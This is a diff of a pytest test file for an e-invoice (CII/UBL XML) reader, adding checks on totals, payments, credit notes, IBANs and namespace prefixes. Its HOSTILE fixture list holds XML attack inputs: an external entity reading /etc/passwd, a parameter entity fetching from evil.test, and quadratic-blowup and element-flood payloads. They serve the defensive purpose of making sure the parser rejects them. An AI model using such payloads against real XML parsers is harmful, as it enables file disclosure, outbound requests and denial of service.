@@ -1,5 +1,6 @@
 from __future__ import annotations
 
+import re
 from datetime import date
 from decimal import Decimal
 
@@ -31,7 +32,7 @@ CII = """<?xml version="1.0" encoding="UTF-8"?>
    <ram:SpecifiedTradePaymentTerms><ram:DueDateDateTime><udt:DateTimeString format="102">20240602</udt:DateTimeString></ram:DueDateDateTime></ram:SpecifiedTradePaymentTerms>
    <ram:SpecifiedTradeSettlementHeaderMonetarySummation><ram:TaxBasisTotalAmount>246.00</ram:TaxBasisTotalAmount>
     <ram:TaxTotalAmount currencyID="USD">50.00</ram:TaxTotalAmount><ram:TaxTotalAmount currencyID="EUR">46.74</ram:TaxTotalAmount>
-    <ram:GrandTotalAmount>292.74</ram:GrandTotalAmount><ram:DuePayableAmount>192.74</ram:DuePayableAmount></ram:SpecifiedTradeSettlementHeaderMonetarySummation>
+    <ram:GrandTotalAmount>292.74</ram:GrandTotalAmount><ram:DuePayableAmount>292.74</ram:DuePayableAmount></ram:SpecifiedTradeSettlementHeaderMonetarySummation>
   </ram:ApplicableHeaderTradeSettlement>
  </rsm:SupplyChainTradeTransaction>
 </rsm:CrossIndustryInvoice>"""
@@ -58,7 +59,7 @@ UBL = """<?xml version="1.0" encoding="UTF-8"?>
  <cac:TaxTotal><cbc:TaxAmount currencyID="EUR">46.74</cbc:TaxAmount><cac:TaxSubtotal><cbc:TaxAmount currencyID="EUR">46.74</cbc:TaxAmount>
   <cac:TaxCategory><cbc:Percent>19</cbc:Percent></cac:TaxCategory></cac:TaxSubtotal></cac:TaxTotal>
  <cac:LegalMonetaryTotal><cbc:TaxExclusiveAmount currencyID="EUR">246.00</cbc:TaxExclusiveAmount>
-  <cbc:TaxInclusiveAmount currencyID="EUR">292.74</cbc:TaxInclusiveAmount><cbc:PayableAmount currencyID="EUR">192.74</cbc:PayableAmount></cac:LegalMonetaryTotal>
+  <cbc:TaxInclusiveAmount currencyID="EUR">292.74</cbc:TaxInclusiveAmount><cbc:PayableAmount currencyID="EUR">292.74</cbc:PayableAmount></cac:LegalMonetaryTotal>
  <cac:{kind}Line><cbc:{quantity}>40</cbc:{quantity}><cbc:LineExtensionAmount currencyID="EUR">246.00</cbc:LineExtensionAmount>
   <cac:Item><cbc:Name>Rope 12 mm</cbc:Name><cac:ClassifiedTaxCategory><cbc:Percent>19</cbc:Percent></cac:ClassifiedTaxCategory></cac:Item>
   <cac:Price><cbc:PriceAmount currencyID="EUR">6.15</cbc:PriceAmount></cac:Price></cac:{kind}Line>
@@ -110,6 +111,7 @@ def test_sums_that_do_not_fit_are_told():
     assert read_e_invoice(wrong.encode()).warnings == (
         "Net 246.00 and tax 46.74 do not make 300.00.",
         "Line 1: 40 × 6.1500 is not 999.00.",
+        "300.00 less 0 paid leaves 300.00, not 292.74.",
     )
 
 
@@ -142,6 +144,114 @@ def test_the_standard_name_goes_before_other_xml():
     assert reading.invoice.number == "R-77"
 
 
+def with_dues(lines="246.00", off="0", on="0", paid="0", left="292.74") -> dict[str, str]:
+    """The same invoice in both languages, with what was taken off, put on and paid."""
+    cii = CII.replace(
+        "<ram:TaxBasisTotalAmount>",
+        f"<ram:LineTotalAmount>{lines}</ram:LineTotalAmount><ram:ChargeTotalAmount>{on}</ram:ChargeTotalAmount>"
+        f"<ram:AllowanceTotalAmount>{off}</ram:AllowanceTotalAmount><ram:TaxBasisTotalAmount>",
+    ).replace(
+        "<ram:DuePayableAmount>292.74",
+        f"<ram:TotalPrepaidAmount>{paid}</ram:TotalPrepaidAmount><ram:DuePayableAmount>{left}",
+    )
+    ubl = UBL_INVOICE.replace(
+        "<cbc:TaxExclusiveAmount",
+        f"<cbc:LineExtensionAmount>{lines}</cbc:LineExtensionAmount><cbc:AllowanceTotalAmount>{off}</cbc:AllowanceTotalAmount>"
+        f"<cbc:ChargeTotalAmount>{on}</cbc:ChargeTotalAmount><cbc:PrepaidAmount>{paid}</cbc:PrepaidAmount><cbc:TaxExclusiveAmount",
+    ).replace(">292.74</cbc:PayableAmount>", f">{left}</cbc:PayableAmount>")
+    return {"CII": cii, "UBL": ubl}
+
+
+@pytest.mark.parametrize("shape", ["CII", "UBL"])
+@pytest.mark.parametrize(
+    ("dues", "warnings"),
+    [
+        ({}, ()),
+        ({"off": "10.00", "on": "10.00"}, ()),
+        ({"off": "10.00"}, ("Lines 246.00 with allowances and charges make 236.00, not 246.00.",)),
+        ({"paid": "100.00", "left": "192.74"}, ("Of 292.74, 100.00 is paid already; 192.74 is due.",)),
+        ({"paid": "292.74", "left": "0.00"}, ("Of 292.74, 292.74 is paid already; 0.00 is due.",)),
+        ({"paid": "-20.00", "left": "312.74"}, ("To 292.74 comes 20.00 from before; 312.74 is due.",)),
+        ({"paid": "100.00"}, ("292.74 less 100.00 paid leaves 192.74, not 292.74.",)),
+        ({"lines": "1E9"}, ()),
+    ],
+)
+def test_what_was_taken_off_put_on_or_paid_is_checked(shape, dues, warnings):
+    reading = read_e_invoice(with_dues(**dues)[shape].encode())
+
+    assert warnings == reading.warnings
+    assert (Decimal("246.00"), Decimal("292.74")) == (reading.invoice.net_total, reading.invoice.grand_total)
+
+
+@pytest.mark.parametrize(
+    ("xml", "said"),
+    [
+        (UBL_CREDIT, "It is a credit note (type 381): the money comes back."),
+        (
+            CII.replace("<ram:TypeCode>380", "<ram:TypeCode>381"),
+            "It is a credit note (type 381): the money comes back.",
+        ),
+        (CII.replace("<ram:TypeCode>380", "<ram:TypeCode>384"), "It corrects another invoice (type 384)."),
+        (
+            UBL_INVOICE.replace(
+                "<cbc:DocumentCurrency", "<cbc:InvoiceTypeCode>325</cbc:InvoiceTypeCode><cbc:DocumentCurrency"
+            ),
+            "It is a pro forma invoice (type 325): nothing is to be paid by it.",
+        ),
+        (CII.replace("0130 00", "0130 01"), "The check digits of DE89370400440532013001 are wrong."),
+        (
+            CII.replace(">246.00</ram:TaxBasis", ">-246.00</ram:TaxBasis")
+            .replace(">46.74<", ">-46.74<")
+            .replace("292.74", "-292.74"),
+            "Its total is negative: the money comes back.",
+        ),
+    ],
+)
+def test_what_a_person_must_see_before_it_is_paid_is_told(xml, said):
+    assert said in read_e_invoice(xml.encode()).warnings
+
+
+def test_a_line_with_a_discount_of_its_own_fits():
+    cii = CII.replace(">246.00</ram:LineTotal", ">236.00</ram:LineTotal").replace(
+        "<ram:SpecifiedTradeSettlementLineMonetarySummation>",
+        "<ram:SpecifiedTradeAllowanceCharge><ram:ChargeIndicator><udt:Indicator>false</udt:Indicator></ram:ChargeIndicator>"
+        "<ram:ActualAmount>10.00</ram:ActualAmount></ram:SpecifiedTradeAllowanceCharge>"
+        "<ram:SpecifiedTradeSettlementLineMonetarySummation>",
+    )
+    ubl = UBL_INVOICE.replace(
+        '<cbc:LineExtensionAmount currencyID="EUR">246.00</cbc:LineExtensionAmount>',
+        '<cbc:LineExtensionAmount currencyID="EUR">256.00</cbc:LineExtensionAmount><cac:AllowanceCharge>'
+        "<cbc:ChargeIndicator>true</cbc:ChargeIndicator><cbc:Amount>10.00</cbc:Amount></cac:AllowanceCharge>",
+    )
+
+    for xml, total in ((cii, "236.00"), (ubl, "256.00")):
+        reading = read_e_invoice(xml.encode())
+        assert ((), Decimal(total)) == (reading.warnings, reading.invoice.lines[0].total)
+
+
+def test_several_rates_and_reverse_charge_are_kept_apart():
+    more = """<cac:TaxSubtotal><cbc:TaxAmount currencyID="EUR">0.00</cbc:TaxAmount><cac:TaxCategory><cbc:ID>AE</cbc:ID>
+      <cbc:Percent>0</cbc:Percent></cac:TaxCategory></cac:TaxSubtotal></cac:TaxTotal>"""
+
+    invoice = read_e_invoice(UBL_INVOICE.replace("</cac:TaxTotal>", more, 1).encode()).invoice
+
+    assert {Decimal(19): Decimal("46.74"), Decimal(0): Decimal("0.00")} == invoice.tax_by_rate
+
+
+@pytest.mark.parametrize("xml", SHAPES.values(), ids=SHAPES)
+def test_prefixes_are_whatever_the_sender_likes(xml):
+    odd = re.sub(r"(</?|xmlns:)(rsm|ram|udt|cac|cbc)(?=[:=])", r"\1x-\2.1", xml)
+
+    assert odd != xml
+    assert read_e_invoice(xml.encode()) == read_e_invoice(odd.encode())
+
+
+def test_an_account_that_is_no_iban_is_not_called_one():
+    xml = UBL_INVOICE.replace("DE89370400440532013000", "4711-0815")
+
+    assert read_e_invoice(xml.encode()).invoice.iban is None
+
+
 HOSTILE = {
     "a document type": b'<!DOCTYPE Invoice><Invoice/>',
     "an external entity": b'<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><Invoice>&x;</Invoice>',
@@ -152,6 +262,14 @@ HOSTILE = {
     "cut short": CII.encode()[:500],
     "no XML": b"%PDF-1.4",
     "an unknown root": b"<Order/>",
+    "an order": CII.replace("<ram:TypeCode>380", "<ram:TypeCode>220").encode(),
+    "an order by its root": CII.replace("rsm:CrossIndustryInvoice", "rsm:SCRDMCCBDACIOMessageStructure").encode(),
+    "an encoding that is none": b'<?xml version="1.0" encoding="no-such"?><Invoice/>',
+    "an encoding of many bytes": b'<?xml version="1.0" encoding="utf-7"?><Invoice/>',
+    "a parameter entity": b'<!DOCTYPE a [<!ENTITY % x SYSTEM "http://evil.test/x">%x;]><Invoice/>',
+    "a quadratic blowup": b'<!DOCTYPE a [<!ENTITY a "' + b"a" * 50_000 + b'">]><Invoice>' + b"&a;" * 5000 + b"</Invoice>",
+    "an undeclared entity": b"<Invoice>&nbsp;</Invoice>",
+    "too many elements": b"<a>" + b"<b/>" * 600_000 + b"</a>",
     "an invoice in name only": b"<Invoice/>",
 }  # fmt: skip
 
